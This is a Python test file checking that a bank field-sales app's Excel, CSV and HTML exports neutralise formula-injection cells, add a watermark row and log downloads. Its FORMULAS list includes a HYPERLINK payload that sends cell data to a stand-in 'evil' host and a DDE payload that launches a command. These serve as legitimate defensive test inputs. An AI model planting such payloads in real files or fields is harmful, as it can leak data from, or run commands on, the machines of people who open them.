"""Formulas in downloads (issue 10, finding 3) and item 12: every file the app writes - the
field sheet (Excel and print page), the target and actual templates, the explorer's customer
table - neutralises cells starting with = + - @ tab CR, starts each sheet with the watermark
line (who, when), and each click is logged ('download' in the audit log)."""

from __future__ import annotations

import csv
import io
import json
import tomllib

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import text
from streamlit.runtime.media_file_manager import MediaFileManager

from core.db import make_engine
from core.files.downloads import FORMULA_STARTS, table_csv, table_xlsx, watermark
from core.performance.sheet_imports import import_targets
from core.performance.target_sheets import actual_template, target_template
from core.permissions import SYSTEM
from core.scope import Scope
from core.visits.field_sheet import COLUMNS, to_excel, to_html
from tests.helpers import ROOT, open_page, query

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "=1+1",
    "-",
    "+86 138",
]


def cells(data: bytes):
    """Every cell of every sheet: (sheet, row, value, data_type)."""
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield ws, cell


def assert_formula_safe_with_watermark(data: bytes, who: str = "") -> int:
    """No formula cell, no text starting a formula, A1 of every sheet a watermark; returns
    the number of cells holding a planted payload (neutralised)."""
    planted = 0
    sheets = set()
    for ws, cell in cells(data):
        sheets.add(ws.title)
        assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), (
                ws.title,
                cell.coordinate,
                cell.value,
            )
            # a neutralised payload (xlsx stores CR as a line feed: "\r=1" reads back "\n=1")
            planted += any(cell.value == "'" + f.replace("\r", "\n") for f in FORMULAS)
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        assert str(ws["A1"].value).startswith("导出人 ") and who in ws["A1"].value, ws.title
    return planted


def test_the_field_sheet_is_formula_safe_and_watermarked():
    n = len(FORMULAS)
    rows = pd.DataFrame(
        {
            "day": [1 + i % 2 for i in range(n)],
            "seq": range(1, n + 1),
            "cust_no": FORMULAS,
            "name": FORMULAS,
            "phone": FORMULAS,
            "address": FORMULAS,
            "grid": FORMULAS,
            "offers": FORMULAS,
            "notes": FORMULAS,
        }
    )
    headers = {c: c for c in COLUMNS}
    stamp = watermark("张三(manager)")
    data = to_excel(rows, headers, FORMULAS[0], ["周一", "周二"], stamp)
    assert assert_formula_safe_with_watermark(data, "张三(manager)") >= 7 * n
    page = to_html(rows, headers, "清单", ["周一", "周二"], stamp)
    assert "导出人 张三(manager)" in page
    for f in FORMULAS:
        assert f">{f}<" not in page.replace("&quot;", '"').replace("&amp;", "&")


def test_tables_as_xlsx_and_csv_are_formula_safe_and_watermarked():
    frame = pd.DataFrame(
        {
            "name": FORMULAS,
            "phone": FORMULAS,
            "deposit": range(len(FORMULAS)),
            "note": [None] * len(FORMULAS),
        }
    )
    headers = {"name": "=名称", "phone": "电话", "deposit": "存款", "note": "备注"}
    stamp = watermark("李四(branch)")
    assert assert_formula_safe_with_watermark(
        table_xlsx(frame, headers, "客户", stamp), "李四(branch)"
    ) == 2 * len(FORMULAS)
    lines = list(csv.reader(io.StringIO(table_csv(frame, headers, stamp).decode("utf-8-sig"))))
    assert lines[0] == [stamp]
    for line in lines[1:]:
        for value in line:
            assert not value.startswith(FORMULA_STARTS), value
    assert lines[2][0] == "'" + FORMULAS[0]


def test_templates_are_formula_safe_and_still_import(fresh_county):
    with fresh_county.begin() as conn:  # hostile names where the templates show them
        conn.execute(text("UPDATE branch SET name = :n WHERE id = 1"), {"n": FORMULAS[0]})
        conn.execute(text("UPDATE manager SET name = :n WHERE branch_id = 1"), {"n": FORMULAS[1]})
        conn.execute(text("UPDATE bank SET name = :n"), {"n": FORMULAS[3]})
    stamp = watermark("总行(hq)")
    hq = target_template(fresh_county, Scope("hq"), 2026, stamp)
    assert assert_formula_safe_with_watermark(hq, "总行(hq)") >= 15
    branch = target_template(fresh_county, Scope("branch", branch_id=1), 2026, stamp)
    assert assert_formula_safe_with_watermark(branch) >= 15
    actual = actual_template(fresh_county, Scope("hq"), 2026, 11, stamp)
    assert assert_formula_safe_with_watermark(actual) > 0
    assert import_targets(fresh_county, SYSTEM, hq) == 0  # the watermark row skipped


# ---- the pages: the file made on click, the click logged ----------------------------------


@pytest.fixture
def deferred(monkeypatch):
    """The files the pages' download buttons would make when clicked: Streamlit registers a
    callable per button and runs it on the click; the test runs it as the click would."""
    made: dict[str, object] = {}
    original = MediaFileManager.add_deferred

    def spy(self, data_callable, *args, **kwargs):
        file_id = original(self, data_callable, *args, **kwargs)
        made[file_id] = data_callable
        return file_id

    monkeypatch.setattr(MediaFileManager, "add_deferred", spy)

    def click(at, key: str) -> bytes:
        button = next(b for b in at.get("download_button") if b.key == key)
        return made[button.proto.deferred_file_id]()

    return click


@pytest.fixture
def county(county_copy, monkeypatch, navigation_mode):
    monkeypatch.setenv("DATABASE_URL", county_copy)
    monkeypatch.delenv("GM_MAP_TILES", raising=False)
    return county_copy


def downloads(url: str) -> list:
    return query(
        url, "SELECT entity, user_id, detail FROM audit_log WHERE action = 'download' ORDER BY id"
    )


def plant(url: str, where: str, **params) -> None:
    """Formula payloads in the names, addresses and grids of the chosen customers."""
    engine = make_engine(url)
    with engine.begin() as conn:
        ids = (
            conn.execute(text(f"SELECT id FROM customer WHERE {where} ORDER BY id"), params)
            .scalars()
            .all()
        )
        for i, cid in enumerate(ids):
            f = FORMULAS[i % len(FORMULAS)]
            conn.execute(
                text("UPDATE customer SET name = :f, address = :f WHERE id = :c"),
                {"f": f, "c": cid},
            )
        conn.execute(
            text(
                f"UPDATE grid SET name = :f WHERE id IN (SELECT grid2_id FROM "
                f"customer WHERE {where})"
            ),
            {"f": FORMULAS[0], **params},
        )
    engine.dispose()


def test_the_explorer_customer_table_download(county, deferred):
    branch = query(county, "SELECT branch_id FROM app_user WHERE username = 'branch'")[0][0]
    plant(county, "branch_id = :b", b=branch)
    at = open_page("branch", "pages/segments.py")
    at.segmented_control(key="xf_view").set_value("customers").run()
    assert not at.exception
    assert downloads(county) == []  # shown, not clicked: nothing logged
    data = deferred(at, "xf_download")
    assert assert_formula_safe_with_watermark(data, "(branch)") > 0
    ((entity, user_id, detail),) = downloads(county)
    detail = json.loads(detail)
    assert (
        entity == "customers"
        and detail["rows"] == load_workbook(io.BytesIO(data)).active.max_row - 2
    )
    assert user_id == query(county, "SELECT id FROM app_user WHERE username = 'branch'")[0][0]
    assert "filters" in detail


def test_the_field_sheet_download(county, deferred):
    manager = query(county, "SELECT manager_id FROM app_user WHERE username = 'manager'")[0][0]
    plant(county, "manager_id = :m", m=manager)
    at = open_page("manager", "pages/visits.py")
    at.button(key="visits_save").click().run()
    at.segmented_control(key="visits_view").set_value("route").run()
    assert not at.exception
    data = deferred(at, "sheet_excel")
    assert assert_formula_safe_with_watermark(data, "(manager)") > 0
    ((entity, _, detail),) = downloads(county)
    assert entity == "field_sheet" and json.loads(detail)["filters"]["manager_id"] == manager


def test_the_target_templates_download(county, deferred):
    engine = make_engine(county)
    with engine.begin() as conn:
        conn.execute(text("UPDATE branch SET name = :n"), {"n": FORMULAS[0]})
        conn.execute(text("UPDATE manager SET name = :n"), {"n": FORMULAS[2]})
    engine.dispose()
    at = open_page("hq", "pages/targets.py")
    assert not at.exception
    for key, what in (
        ("targets_download", "target_template"),
        ("actuals_download", "actual_template"),
    ):
        assert assert_formula_safe_with_watermark(deferred(at, key), "(hq)") > 0
        assert downloads(county)[-1][0] == what
    assert len(downloads(county)) == 2


def test_streamlit_table_export_is_off():
    """Tables with personal data offer no built-in CSV download (supported option)."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
